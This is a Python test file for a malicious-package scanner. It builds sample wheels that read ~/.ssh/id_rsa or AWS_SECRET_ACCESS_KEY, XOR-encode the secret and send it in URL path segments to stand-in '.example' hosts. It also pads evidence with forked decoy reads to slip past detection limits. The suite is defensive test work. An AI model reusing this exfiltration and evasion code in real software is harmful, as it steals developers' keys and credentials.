"""Session 7's hostile read of the accounted-fetch softening, end to end: defanged
wheels that read a secret and send it in requests that pass every "ordinary fetch"
test, each vetted CLEAN (exit 0) on main.  Destinations are names the sinkhole answers
inside the sandbox (``*.example``); nothing leaves it."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from sandbox.models import Phase, Severity, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]


def _host(r: Randomised, label: str) -> str:
    return f"{label}." + "".join(r.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) + ".example"


def test_a_key_read_behind_twenty_config_readers_is_judged(tmp_path: Path) -> None:
    """22 children read the project's ``.env`` (client configuration), then the key is
    read, XORed and spelt in lowercase letters over plain GETs that ignore the bait.
    On main the key read was past the 20 evidence rows: every finding LOW, clean."""
    r = Randomised()
    name, host = r.name("cfgsync"), _host(r, "cdn")
    key = ", ".join(str(r.rng.randrange(1, 256)) for _ in range(8))
    src = textwrap.dedent(
        f"""\
        import os, urllib.request

        def _load_env():
            try:
                with open(os.path.join(os.getcwd(), ".env")) as fh:
                    fh.read()
            except OSError:
                pass

        for _ in range({r.rng.randrange(21, 26)}):
            _pid = os.fork()
            if _pid == 0:
                _load_env()
                os._exit(0)
            os.waitpid(_pid, 0)

        def _sync():
            try:
                with open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa"), "rb") as fh:
                    data = fh.read()
            except OSError:
                return
            key = bytes([{key}])
            sealed = bytes(b ^ key[i % 8] for i, b in enumerate(data))
            text = "".join(chr(97 + (b >> 4)) + chr(97 + (b & 15)) for b in sealed)
            segs = [text[i:i + 30] for i in range(0, len(text), 30)]
            for i in range(0, len(segs), 12):
                try:
                    urllib.request.urlopen("http://{host}/" + "/".join(segs[i:i + 12]), timeout=5).read()
                except OSError:
                    pass

        _sync()
        """
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None and code == 1, report and report.verdict_reason
    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
    assert report.verdict is Verdict.MALICIOUS, sev
    assert sev["PS001"] is Severity.HIGH and sev["PS002"] is Severity.HIGH, sev
    ps001 = next(f for f in report.findings if f.rule_id == "PS001" and f.phase is Phase.IMPORT)
    assert ps001.evidence[0].path == "/home/dev/.ssh/id_rsa", [e.path for e in ps001.evidence]


def test_a_command_sending_a_sealed_environment_secret_is_judged(tmp_path: Path) -> None:
    """A console script (run with --help in the exercise phase) XORs
    ``AWS_SECRET_ACCESS_KEY`` and GETs the hex in 15-character path segments: on main
    the exercise phase's accounted PS002/PS011 were LOW, clean. The segments follow the
    token, so the secrets pass (honeytokens redrawn) sends other ones: PS031, malicious."""
    r = Randomised()
    name, host = r.name("clitool"), _host(r, "api")
    key = ", ".join(str(r.rng.randrange(1, 256)) for _ in range(8))
    cli = textwrap.dedent(
        f"""\
        import os, urllib.request

        def main():
            secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
            key = bytes([{key}])
            blob = bytes(b ^ key[i % 8] for i, b in enumerate(secret.encode())).hex()
            segs = [blob[i:i + 15] for i in range(0, len(blob), 15)]
            try:
                urllib.request.urlopen("http://{host}/v1/" + "/".join(segs), timeout=5).read()
            except OSError:
                pass
            print("usage: {name} [--help]")
        """
    )
    whl = build_wheel(
        tmp_path,
        name,
        "1.0",
        {f"{name}/__init__.py": "", f"{name}/cli.py": cli},
        entry_points=f"[console_scripts]\n{name} = {name}.cli:main\n",
    )
    code, report = run_cli(tmp_path, str(whl))
    assert report is not None and code == 1, report and report.verdict_reason
    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.EXERCISE}
    assert report.verdict is Verdict.MALICIOUS, sev
    assert sev["PS031"] is Severity.HIGH, sev
    assert sev["PS002"] is Severity.MEDIUM and sev["PS011"] is Severity.MEDIUM, sev
